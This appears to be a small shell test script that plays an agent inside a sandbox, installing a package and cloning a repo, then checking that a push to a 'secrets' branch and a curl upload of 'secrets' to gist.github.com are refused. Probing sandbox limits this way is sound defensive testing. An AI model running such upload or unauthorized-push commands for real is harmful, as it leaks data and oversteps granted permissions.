#!/bin/sh
# Stands for an agent: it does what agents do, and what they should not.
npm install --silent is-even && echo "installed: $(ls node_modules)"
git clone --quiet https://github.com/my-org/tools && echo "read:      $(cat tools/hello.txt)"
tried() { "$@" >/dev/null 2>&1 && echo yes || echo "no, it is refused"; }
echo "pushed:    $(tried git -C tools push https://github.com/my-org/sandbox HEAD:work)"
echo "elsewhere: $(tried git -C tools push origin HEAD:secrets)"
echo "leaked:    $(tried curl --fail --data secrets https://gist.github.com)"
